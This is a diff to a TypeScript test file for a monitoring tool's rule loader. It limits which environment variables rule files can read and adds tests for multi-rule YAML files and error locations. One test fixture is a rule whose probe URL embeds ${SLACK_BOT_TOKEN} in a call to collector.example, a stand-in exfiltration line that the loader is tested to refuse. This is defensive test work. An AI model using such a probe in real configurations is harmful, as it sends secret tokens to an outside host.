@@ -1,4 +1,4 @@
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -79,17 +79,53 @@ describe("the repository's default HELIX rules", () => {
     expect(probe).toMatchObject({ url: 'http://127.0.0.1:8015/api/v1/health', every: 5000 });
   });
 
-  it('takes rules.vars before the environment', () => {
-    const fromEnv = loadRules(repoRules, {}, { HELIX_HEALTH_EVERY: '10s', HELIX_API_URL: 'http://env:1' });
+  it('takes rules.vars first, then only the environment variables named for rules', () => {
     const health = (set: ReturnType<typeof loadRules>) =>
       set.probes.find((p) => p.name === 'helix-api-health');
-    expect(health(fromEnv)).toMatchObject({ every: 10_000, url: 'http://env:1/api/v1/health' });
+    // HELIX_* are not named for rules: the environment's values are not read, the defaults apply.
+    const notForRules = loadRules(
+      repoRules,
+      {},
+      { HELIX_HEALTH_EVERY: '10s', HELIX_API_URL: 'http://env:1' },
+    );
+    expect(health(notForRules)).toMatchObject({ every: 5000, url: 'http://127.0.0.1:8015/api/v1/health' });
     const fromVars = loadRules(
       repoRules,
       { HELIX_HEALTH_EVERY: '1s', HELIX_HEALTH_TIMEOUT: '500ms' },
       { HELIX_HEALTH_EVERY: '10s' },
     );
     expect(health(fromVars)?.every).toBe(1000);
+  });
+
+  it('refuses a rule that reads an environment variable not named for rules (a secret in a probe URL)', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'vigil-rules-env-'));
+    try {
+      writeFileSync(
+        join(dir, 'leak.yaml'),
+        `id: leak
+title: leak
+severity: info
+ackSla: 5m
+probe:
+  kind: http
+  name: leak
+  url: https://collector.example/\${SLACK_BOT_TOKEN}
+  every: 10s
+condition: { kind: consecutive, count: 1 }
+`,
+      );
+      const env = { SLACK_BOT_TOKEN: 'xoxb-secret', VIGIL_RULE_HOST: 'h' };
+      expect(() => loadRules(dir, {}, env)).toThrow(
+        /leak\.yaml:8:8 probe\.url: \$\{SLACK_BOT_TOKEN\} is not set \(rule files read rules\.vars and environment variables starting with VIGIL_RULE_ only: add SLACK_BOT_TOKEN to rules\.vars\)/,
+      );
+      writeFileSync(
+        join(dir, 'leak.yaml'),
+        readFileSync(join(dir, 'leak.yaml'), 'utf8').replace('SLACK_BOT_TOKEN', 'VIGIL_RULE_HOST'),
+      );
+      expect(loadRules(dir, {}, env).probes[0]).toMatchObject({ url: 'https://collector.example/h' });
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 
   it('returns a frozen set: a running engine cannot have its rules changed under it', () => {
@@ -167,14 +203,23 @@ condition:
     const first = write('a.yaml', probeRule('api', 'probe-a'));
     const second = write('b.yaml', probeRule('api', 'probe-b'));
     const problems = problemsOf(() => loadRules(dir, {}, {}));
-    expect(problems).toEqual([`${second}:1:5 id: rule "api" is already defined in ${first}`]);
+    expect(problems).toEqual([`${second}:1:5 id: rule "api" is already defined at ${first}:1:5`]);
+  });
+
+  it('reads several rules from one file, separated by ---, each placed at its own line', () => {
+    const file = write('many.yaml', `${probeRule('api', 'probe-a')}---\n${probeRule('api', 'probe-b')}`);
+    const problems = problemsOf(() => loadRules(dir, {}, {}));
+    const secondAt = probeRule('api', 'probe-a').split('\n').length + 1; // after the first rule and its ---
+    expect(problems).toEqual([`${file}:${secondAt}:5 id: rule "api" is already defined at ${file}:1:5`]);
+    write('many.yaml', `${probeRule('api-a', 'probe-a')}---\n${probeRule('api-b', 'probe-b')}\n---\n`);
+    expect(loadRules(dir, {}, {}).rules.map((r) => r.id)).toEqual(['api-a', 'api-b']);
   });
 
   it('rejects a duplicate probe name, naming both files', () => {
     const first = write('a.yaml', probeRule('rule-a', 'shared-probe'));
     const second = write('b.yaml', probeRule('rule-b', 'shared-probe'));
     const problems = problemsOf(() => loadRules(dir, {}, {}));
-    expect(problems).toEqual([`${second}:7:9 probe.name: "shared-probe" is already defined in ${first}`]);
+    expect(problems).toEqual([`${second}:7:9 probe.name: "shared-probe" is already defined at ${first}:7:9`]);
   });
 
   it('rejects a probe interval of 0 and a timeout not below the interval, with file:line and field', () => {
